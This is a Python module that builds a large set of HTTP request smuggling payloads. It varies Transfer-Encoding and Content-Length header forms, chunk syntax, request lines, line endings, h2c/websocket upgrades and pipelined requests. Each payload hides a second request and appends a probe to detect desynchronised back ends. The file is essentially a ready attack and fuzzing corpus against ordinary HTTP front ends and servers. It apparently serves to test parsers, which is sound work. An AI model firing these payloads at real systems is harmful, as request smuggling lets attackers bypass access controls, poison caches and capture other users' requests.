"""Request smuggling: bytes that two readers may cut into requests differently.

From the public descriptions of such attacks (CL.TE, TE.CL, TE.TE, CL.0, 0.CL, h2c upgrades, chunk extensions
and line endings) and the grammar of RFC 9112; every payload is followed by an ordinary request on the same
connection, so that a back end which is out of step shows it.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product
from typing import Final

HIDDEN: Final = b"GET /hidden/%b HTTP/1.1\r\nHost: a\r\n\r\n"
"""What an attacker wants the back end to see as a request of its own."""

TRANSFER_CODINGS: Final = [
    b"Transfer-Encoding: chunked",
    b"transfer-encoding: CHUNKED",
    b"Transfer-Encoding : chunked",
    b"Transfer-Encoding\t: chunked",
    b" Transfer-Encoding: chunked",
    b"\tTransfer-Encoding: chunked",
    b"Transfer-Encoding:chunked",
    b"Transfer-Encoding:\tchunked",
    b"Transfer-Encoding:  \t chunked \t",
    b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding: chunkedx",
    b"Transfer-Encoding: chunk",
    b"Transfer-Encoding: chunked;q=1",
    b"Transfer-Encoding: chunked;",
    b'Transfer-Encoding: "chunked"',
    b"Transfer-Encoding: 'chunked'",
    b"Transfer-Encoding: chunked, identity",
    b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: identity",
    b"Transfer-Encoding: gzip, chunked",
    b"Transfer-Encoding: chunked, gzip",
    b"Transfer-Encoding: chunked, chunked",
    b"Transfer-Encoding: chunked,",
    b"Transfer-Encoding: ,chunked",
    b"Transfer-Encoding: ",
    b"Transfer-Encoding: cow",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-encoding: cow",
    b"Transfer-Encoding:\r\n chunked",
    b"Transfer-Encoding: \r\n\tchunked",
    b"Transfer-Encoding: chun\r\n ked",
    b"Transfer-Encoding:\nchunked",
    b"Transfer-Encoding\n: chunked",
    b"Transfer-Encoding\r\n: chunked",
    b"Transfer-Encoding: chunked\r",
    b"Transfer-Encoding: \x0bchunked",
    b"Transfer-Encoding: \x0cchunked",
    b"Transfer-Encoding:\x00chunked",
    b"Transfer-Encoding: chunked\x00",
    b"Transfer-Encoding\x00: chunked",
    b"Transfer-Encoding: \xa0chunked",
    b"Transfer-Encoding: \xefchunked",
    b"Transfer-Encoding: ch\xc5\xabnked",
    b"Transfer-Encoding: chunKed".replace(b"K", "\u212a".encode()),
    b"Transfer_Encoding: chunked",
    b"Transfer.Encoding: chunked",
    b"Transfer Encoding: chunked",
    b"TransferEncoding: chunked",
    b"X: x\nTransfer-Encoding: chunked",
    b"X: x\rTransfer-Encoding: chunked",
    b"X: x\r\n\rTransfer-Encoding: chunked",
    b"X:\x00\r\nTransfer-Encoding: chunked",
    b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
    b"Connection: Content-Length\r\nTransfer-Encoding: chunked",
    b"Foo\r\nTransfer-Encoding: chunked",
    b": x\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTE: chunked",
    b"X-HTTP-Method-Override: GET\r\nTransfer-Encoding: chunked",
]
LENGTHS: Final = [
    b"Content-Length: %d",
    b"content-length: %d",
    b"Content-Length:%d",
    b"Content-Length: %d ",
    b"Content-Length:\t%d\t",
    b"Content-Length : %d",
    b" Content-Length: %d",
    b"Content-Length: +%d",
    b"Content-Length: -%d",
    b"Content-Length: 0%d",
    b"Content-Length: 000000000000000000000000%d",
    b"Content-Length: 0x%d",
    b"Content-Length: 0o%d",
    b"Content-Length: %d.0",
    b"Content-Length: %de0",
    b"Content-Length: %d_0",
    b"Content-Length: 1 %d",
    b"Content-Length: %d, %d",
    b"Content-Length: %d,",
    b"Content-Length: ,%d",
    b"Content-Length: 0, %d",
    b"Content-Length: %d;x",
    b"Content-Length: '%d'",
    b'Content-Length: "%d"',
    b"Content-Length: %d\x00",
    b"Content-Length: \x0b%d",
    b"Content-Length: %d\x0c",
    b"Content-Length: \xef\xbc\x95",
    b"Content-Length: \xd9\xa5",
    b"Content-Length: 18446744073709551616",
    b"Content-Length: 18446744073709551651",
    b"Content-Length: 4294967296",
    b"Content-Length: -1",
    b"Content-Length: ",
    b"Content-Length:\r\n %d",
    b"Content-Length: \n%d",
    b"Content-Length: %d\r\nContent-Length: %d",
    b"Content-Length: 0\r\nContent-Length: %d",
    b"Content-Length: %d\r\nContent-Length: 0",
    b"Content-Length: %d\r\ncontent-length: 3",
    b"Content_Length: %d",
    b"Content-Length\x00: %d",
    b"Content-Lengt\x68\x7f: %d",
    b"Content Length: %d",
    b"Connection: Content-Length\r\nContent-Length: %d",
    b"X: x\nContent-Length: %d",
    b"X: x\rContent-Length: %d",
    b"X: x\r\n Content-Length: %d",
]
CHUNKED: Final = b"POST /%b HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n%b\r\n"
CHUNKS: Final = [
    b"5;ext\r\nhello\r\n0\r\n\r\n",
    b'5;a=b;c="d"\r\nhello\r\n0\r\n\r\n',
    b'5;a="x\r\ny"\r\nhello\r\n0\r\n\r\n',
    b"5;\nhello\r\n0\r\n\r\n",
    b"5;x\nhello\r\n0\r\n\r\n",
    b"5;x\rhello\r\n0\r\n\r\n",
    b"5;\x00\r\nhello\r\n0\r\n\r\n",
    b"5;" + b"x" * 5000 + b"\r\nhello\r\n0\r\n\r\n",
    b"2;\n xx\r\n%x\r\n0\r\n\r\n%b",
    b"5\nhello\r\n0\r\n\r\n",
    b"5\rhello\r\n0\r\n\r\n",
    b"5\r\nhello\n0\r\n\r\n",
    b"5\r\nhello\r0\r\n\r\n",
    b"5\r\nhello0\r\n\r\n",
    b"5\r\nhelloXX0\r\n\r\n",
    b"5\r\nhello\r\n0\n\n",
    b"5\r\nhello\r\n0\r\r",
    b"5\r\nhello\r\n0\r\n\n",
    b"5 \r\nhello\r\n0\r\n\r\n",
    b" 5\r\nhello\r\n0\r\n\r\n",
    b"\t5\r\nhello\r\n0\r\n\r\n",
    b"\r\n5\r\nhello\r\n0\r\n\r\n",
    b"+5\r\nhello\r\n0\r\n\r\n",
    b"-5\r\nhello\r\n0\r\n\r\n",
    b"0x5\r\nhello\r\n0\r\n\r\n",
    b"5_0\r\nhello\r\n0\r\n\r\n",
    b"5.\r\nhello\r\n0\r\n\r\n",
    b"00000000000000000000005\r\nhello\r\n0\r\n\r\n",
    b"10000000000000005\r\nhello\r\n0\r\n\r\n",
    b"ffffffffffffffff\r\nhello\r\n0\r\n\r\n",
    b"100000005\r\nhello\r\n0\r\n\r\n",
    b"\xef\xbc\x95\r\nhello\r\n0\r\n\r\n",
    b"g\r\nhello\r\n0\r\n\r\n",
    b"\r\nhello\r\n0\r\n\r\n",
    b"0;x\r\n\r\n",
    b"00\r\n\r\n",
    b"-0\r\n\r\n",
    b"0 \r\n\r\n",
    b"0\r\nContent-Length: 50\r\n\r\n",
    b"0\r\nTransfer-Encoding: chunked\r\n\r\n",
    b"0\r\nHost: b\r\n\r\n",
    b"0\r\nX: 1\nContent-Length: 50\r\n\r\n",
    b"0\r\n X: 1\r\n\r\n",
    b"0\r\nGET /hidden HTTP/1.1\r\nHost: a\r\n\r\n",
    b"0\r\nX",
    b"0\r\n",
    b"3\r\nhello\r\n0\r\n\r\n",
    b"7\r\nhello\r\n0\r\n\r\n",
]  # fmt: skip
STARTS: Final = [
    b"GET http://b/%b HTTP/1.1",
    b"GET //b/%b HTTP/1.1",
    b"GET /%b",
    b"GET /%b HTTP/0.9",
    b"GET /%b HTTP/1.0",
    b"GET /%b HTTP/1.2",
    b"GET /%b HTTP/1.10",
    b"GET /%b HTTP/2.0",
    b"GET /%b http/1.1",
    b"GET /%b HTTP/1.1 HTTP/1.1",
    b"GET /%b x HTTP/1.1",
    b"GET  /%b HTTP/1.1",
    b"GET\t/%b HTTP/1.1",
    b"GET /%b\tHTTP/1.1",
    b"GET /%b  HTTP/1.1",
    b"GET /%b HTTP/1.1 ",
    b" GET /%b HTTP/1.1",
    b"\r\n\r\nGET /%b HTTP/1.1",
    b"\nGET /%b HTTP/1.1",
    b"\x00GET /%b HTTP/1.1",
    b"get /%b HTTP/1.1",
    b"GET%b / HTTP/1.1",
    b"GET /%b#x HTTP/1.1",
    b"GET /%b\x00 HTTP/1.1",
    b"GET /%b\rHTTP/1.1",
    b"CONNECT /%b HTTP/1.1",
    b"TRACE /%b HTTP/1.1",
    b"PRI /%b HTTP/2.0",
    b"OPTIONS /%b HTTP/1.1",
]
ENDINGS: Final = [b"\n", b"\r", b"\r\r\n", b"\n\r", b"\x0b\r\n", b"\x85\r\n", b"\r\n ", b" \r\n"]
"""In the place of a line's end."""
UPGRADES: Final = [
    b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
    b"Connection: Upgrade\r\nUpgrade: h2c",
    b"Upgrade: h2c",
    b"Connection: Upgrade\r\nUpgrade: TLS/1.0",
    b"Connection: Upgrade\r\nUpgrade: x, websocket",
    b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 9",
    b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: eA==",
    b"Connection: keep-alive, Upgrade\r\nUpgrade: Websocket",
    b"Connection: close, Upgrade\r\nUpgrade: h2c",
]
NAMED: Final = [
    b"Host",
    b"Content-Length",
    b"Transfer-Encoding",
    b"Upgrade",
    b"close",
    b"X-Key",
    b"TE",
]


@dataclass(frozen=True, slots=True)
class Payload:
    """What is sent on one connection. `name` stands in every target of it."""

    name: str
    data: bytes


def payloads() -> list[Payload]:
    """All of them; each name once."""
    kinds = [
        _codings(),
        _lengths(),
        _without_length(),
        _chunks(),
        _lines(),
        _upgrades(),
        _pipelines(),
    ]
    return [payload for kind in kinds for payload in kind]


def _made(kind: str, number: int, data: bytes) -> Payload:
    """The name of a payload also takes the place of NAME in its bytes."""
    name = f"{kind}-{number}"
    named = data.replace(b"NAME", name.encode())
    probe = b"GET /probe/%b HTTP/1.1\r\nHost: a\r\n\r\n" % name.encode()
    return Payload(name, named + probe)


def _hidden(kind: str, number: int) -> bytes:
    return HIDDEN % f"{kind}-{number}".encode()


def _codings() -> Iterator[Payload]:
    """A length and a coding; the body is a whole one by either, and holds a request by the other."""
    head = b"POST /NAME HTTP/1.1\r\nHost: a\r\n"
    for number, coding in enumerate(TRANSFER_CODINGS):
        body = b"0\r\n\r\n" + _hidden("cl-te", number)
        length = b"Content-Length: %d\r\n" % len(body)
        yield _made("cl-te", number, head + length + coding + b"\r\n\r\n" + body)
        hidden = _hidden("te-cl", number)
        size = b"%x\r\n" % len(hidden)
        length = b"Content-Length: %d\r\n\r\n" % len(size)
        chunks = size + hidden + b"\r\n0\r\n\r\n"
        yield _made("te-cl", number, head + coding + b"\r\n" + length + chunks)
        yield _made(
            "te", number, head + coding + b"\r\n\r\n" + b"0\r\n\r\n" + _hidden("te", number)
        )


def _lengths() -> Iterator[Payload]:
    for number, line in enumerate(LENGTHS):
        hidden = _hidden("cl", number)
        said = line.replace(b"%d", b"%d" % len(hidden))
        yield _made(
            "cl", number, b"POST /NAME HTTP/1.1\r\nHost: a\r\n" + said + b"\r\n\r\n" + hidden
        )


def _without_length() -> Iterator[Payload]:
    """Bodies where the method has none, or before the server asked for them."""
    methods = [b"GET", b"HEAD", b"DELETE", b"OPTIONS", b"PUT", b"POST"]
    said = [b"", b"Content-Length: 0\r\n", b"Content-Length: SIZE\r\n", b"Expect: 100-continue\r\nContent-Length: SIZE\r\n",
            b"Expect: 100-continue\r\n", b"Expect: y 100-continue\r\nContent-Length: SIZE\r\n"]  # fmt: skip
    for number, (method, lines) in enumerate(product(methods, said)):
        hidden = _hidden("cl-0", number)
        sized = lines.replace(b"SIZE", b"%d" % len(hidden))
        yield _made(
            "cl-0", number, method + b" /NAME HTTP/1.1\r\nHost: a\r\n" + sized + b"\r\n" + hidden
        )


def _chunks() -> Iterator[Payload]:
    for number, chunks in enumerate(CHUNKS):
        hidden = _hidden("chunk", number)
        body = chunks.replace(b"%x", b"%x" % len(hidden)).replace(b"%b", hidden)
        yield _made("chunk", number, CHUNKED % (b"NAME", b"") + body)
        yield _made(
            "chunk-hidden",
            number,
            CHUNKED % (b"NAME", b"X: 1\r\n") + body + _hidden("chunk-hidden", number),
        )


def _lines() -> Iterator[Payload]:
    for number, start in enumerate(STARTS):
        yield _made("start", number, start.replace(b"%b", b"NAME") + b"\r\nHost: a\r\n\r\n")
    parts = [b"GET /NAME HTTP/1.1", b"Host: a", b"X: y", b"Content-Length: 0", b""]
    for number, (ending, place) in enumerate(product(ENDINGS, range(len(parts)))):
        lines = [part + (ending if at == place else b"\r\n") for at, part in enumerate(parts)]
        yield _made("ending", number, b"".join(lines) + HIDDEN % b"NAME")
    for number, name in enumerate(NAMED):
        head = b"POST /NAME HTTP/1.1\r\nHost: a\r\nX-Key: 1\r\nConnection: " + name
        hidden = _hidden("named", number)
        length = b"\r\nContent-Length: %d\r\n\r\n" % len(hidden)
        yield _made("named", number, head + length + hidden)


def _upgrades() -> Iterator[Payload]:
    bodies = [b"", b"Content-Length: 5\r\n", b"Transfer-Encoding: chunked\r\n"]
    for number, (lines, framing) in enumerate(product(UPGRADES, bodies)):
        body = b"hello" if b"Length" in framing else b"5\r\nhello\r\n0\r\n\r\n" if framing else b""
        head = b"POST /NAME HTTP/1.1\r\nHost: a\r\n" + lines + b"\r\n" + framing + b"\r\n"
        yield _made("upgrade", number, head + body + HIDDEN % b"NAME")


def _pipelines() -> Iterator[Payload]:
    get = b"GET /NAME HTTP/1.1\r\nHost: a\r\n\r\n"
    post = b"POST /NAME HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n\r\nhello"
    chunked = CHUNKED % (b"NAME", b"") + b"5\r\nhello\r\n0\r\n\r\n"
    noise = b"\x00\x01\x02\r\n\r\n"
    for number, requests in enumerate(product([get, post, chunked, noise], repeat=2)):
        yield _made("pipeline", number, b"".join(requests) + b"\r\n\r\n" + get * 3)
